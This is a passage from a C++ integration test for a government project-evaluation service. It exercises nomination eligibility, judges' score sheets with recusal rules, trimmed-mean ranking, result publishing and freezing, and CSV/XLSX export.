       {std::tuple{"judge-town", "八都镇党委书记", "331181100"}, std::tuple{"judge-city", "副市长", ""},
        std::tuple{"judge-dept", "发改局局长", "D01"}}) {
    ASSERT_EQ(Post("admin", base + "/judges", {{"judgeId", judge}, {"name", name}, {"unitId", unit}}).first, 200);
  }

  // Nomination: eligibility checked against the registry, each failed rule named.
  EXPECT_EQ(Post("other_unit", base + "/nominations", {{"projectId", id}}).first, 403);
  auto [nominated, nomination] = Post("unit", base + "/nominations", {{"projectId", id}});
  ASSERT_EQ(nominated, 200) << nomination.dump();
  EXPECT_TRUE(nomination["nomination"]["failedRules"].empty()) << nomination.dump();
  const std::string bare = CreateProject("2023-331181-04-01-000505", 80'000'000);  // no documents
  auto [ineligible_status, ineligible] = Post("unit", base + "/nominations", {{"projectId", bare}});
  ASSERT_EQ(ineligible_status, 200);
  ASSERT_EQ(ineligible["nomination"]["failedRules"].size(), 1u);
  EXPECT_EQ(ineligible["nomination"]["failedRules"][0].get<std::string>().substr(0, 10), "documents:");
  const std::string nid = nomination["nomination"]["nominationId"];
  const std::string bad_nid = ineligible["nomination"]["nominationId"];
  EXPECT_EQ(Post("unit", "/v1/nominations/" + nid + ":review", {{"approve", true}}).first, 403);
  EXPECT_EQ(Post("dept", "/v1/nominations/" + bad_nid + ":review", {{"approve", true}}).first, 409);
  ASSERT_EQ(Post("dept", "/v1/nominations/" + nid + ":review", {{"approve", true}, {"note", "材料齐全"}}).first, 200);
  EXPECT_EQ(Post("admin", base + ":finalizeSelection", {{"nominationIds", {bad_nid}}}).first, 400);
  auto [final_status, selection] = Post("admin", base + ":finalizeSelection", {{"nominationIds", {nid}}});
  ASSERT_EQ(final_status, 200) << selection.dump();
  EXPECT_EQ(selection["selected"][0]["state"], "NOMINATION_STATE_SELECTED");
  const json tiers = Get("leader", "/v1/projects/" + id).second["project"]["tiers"];
  EXPECT_NE(std::find(tiers.begin(), tiers.end(), "PROJECT_TIER_OBSERVATION"), tiers.end()) << tiers.dump();

  // Score sheets: only judges of the campaign, never their own unit, never after submission.
  auto sheet = [&](const std::string& judge, const std::string& unit) {
    return base + "/sheets/" + judge + "/" + unit;
  };
  EXPECT_EQ(Send("PUT", "leader", sheet("judge-city", "331181001"), Scores(80, 80, 80, 80)).first, 403);
  EXPECT_EQ(Send("PUT", "judge_town", sheet("judge-city", "331181001"), Scores(80, 80, 80, 80)).first, 403);
  EXPECT_EQ(Send("PUT", "judge_town", sheet("judge-town", "331181100"), Scores(99, 99, 99, 99)).first, 403);  // 回避
  auto [range, range_body] = Send("PUT", "judge_city", sheet("judge-city", "331181001"), Scores(101, 90, 90, 90));
  EXPECT_EQ(range, 400);
  EXPECT_EQ(range_body["details"][0]["fieldViolations"][0]["field"], "sheet.scores[planning]");
  const std::vector<std::tuple<std::string, std::string, json>> sheets = {
      {"judge_town", "331181001", Scores(80, 90, 70, 60)},  // 76
      {"judge_city", "331181001", Scores(90, 90, 90, 90)},  // 90
      {"judge_dept", "331181001", Scores(50, 50, 50, 50)},  // 50
      {"judge_city", "331181100", Scores(60, 60, 60, 60)},  // 60
      {"judge_dept", "331181100", Scores(70, 70, 70, 70)},  // 70
      {"judge_town", "D01", Scores(85, 85, 85, 85)},        // 85
      {"judge_city", "D01", Scores(80, 80, 80, 80)}};       // 80
  for (const auto& [user, unit, scores] : sheets) {
    const std::string judge = user == "judge_town" ? "judge-town" : user == "judge_city" ? "judge-city" : "judge-dept";
    ASSERT_EQ(Send("PUT", user, sheet(judge, unit), scores).first, 200) << user << " " << unit;
    ASSERT_EQ(Post(user, sheet(judge, unit) + ":submit", json::object()).first, 200) << user << " " << unit;
  }
  EXPECT_EQ(Send("PUT", "judge_city", sheet("judge-city", "D01"), Scores(100, 100, 100, 100)).first, 409);
  EXPECT_EQ(Get("judge_city", base + "/sheets").second["sheets"].size(), 3u);  // a judge sees their own

  // Results: trimmed mean (331181001 drops 90 and 50; the others have two sheets each, nothing dropped).
  EXPECT_EQ(Get("leader", base + "/results").first, 409);  // not published yet
  auto [computed, results] = Post("admin", base + ":compute", json::object());
  ASSERT_EQ(computed, 200) << results.dump();
  ASSERT_EQ(results["results"].size(), 3u);
  EXPECT_EQ(results["results"][0]["unitId"], "D01");
  EXPECT_EQ(results["results"][0]["scoreMilli"], "82500");
  EXPECT_EQ(results["results"][1]["unitId"], "331181001");
  EXPECT_EQ(results["results"][1]["scoreMilli"], "76000");
  EXPECT_EQ(results["results"][1]["sheetsCounted"], 1);  // three submitted, the highest and lowest dropped
  EXPECT_EQ(results["results"][2]["scoreMilli"], "65000");
  auto [published, frozen] = Post("admin", base + ":publish", json::object());
  ASSERT_EQ(published, 200);
  const json before = Get("leader", base + "/results").second;
  ASSERT_TRUE(before["published"].get<bool>()) << before.dump();
  EXPECT_EQ(before["results"], results["results"]);
  EXPECT_EQ(Send("PUT", "judge_dept", sheet("judge-dept", "D01"), Scores(1, 1, 1, 1)).first, 403);  // still 回避
  EXPECT_EQ(Post("judge_city", sheet("judge-city", "D01") + ":submit", json::object()).first, 409);

  // A later change in stats moves the live completion rate but not the published ranking.
  ASSERT_EQ(SubmitWhenAccepted(Report(id, "2023-06", 12'000'000, 12'000'000)), 200);
  const json live = Get("leader", "/v1/unit-rankings?period=2023-06").second["units"];
  std::string live_numerator;
  for (const auto& u : live) {
    if (u["unitId"] == "331181001") live_numerator = u["completionRate"]["numerator"];
  }
  EXPECT_NE(live_numerator, before["results"][1]["completionNumerator"]);
  EXPECT_EQ(Get("leader", base + "/results").second["results"], before["results"]);
  EXPECT_EQ(Post("admin", base + ":compute", json::object()).second["results"], before["results"]);

  // Exports, and the look-back on 2022's plans.
  httplib::Headers leader = {{"Authorization", "Bearer " + system_->token("leader")}};
  auto csv = client.Get((base + "/results:export?format=csv").c_str(), leader);
  ASSERT_TRUE(csv);
  EXPECT_EQ(csv->status, 200);
  EXPECT_NE(csv->body.find("名次,单位,分组,得分,项目谋划(20%)"), std::string::npos) << csv->body;
  EXPECT_NE(csv->body.find("1,发展和改革局,乡镇(街道)与市直单位,82.50"), std::string::npos) << csv->body;
  auto xlsx = client.Get((base + "/results:export?format=xlsx").c_str(), leader);
  ASSERT_TRUE(xlsx);
  EXPECT_EQ(xlsx->body.substr(0, 2), "PK");
  auto [look_status, look] = Get("leader", "/v1/look-back?year=2022&period=2023-06");
  ASSERT_EQ(look_status, 200) << look.dump();
  bool found = false;
  for (const auto& e : look["entries"]) {
    for (const auto& p : e["projects"]) {
      if (p["projectId"] != id) continue;
      found = true;
      EXPECT_EQ(e["unitId"], "331181001");
      EXPECT_EQ(p["investedToDateYuan"], "12000000");
      EXPECT_TRUE(p["started"].get<bool>());
      EXPECT_EQ(p["stageName"], "在建");
    }
  }
  EXPECT_TRUE(found) << look.dump();
  EXPECT_EQ(Get("leader", "/v1/look-back?year=2022&period=2023-13").first, 400);
}

}  // namespace
}  // namespace saima::testing
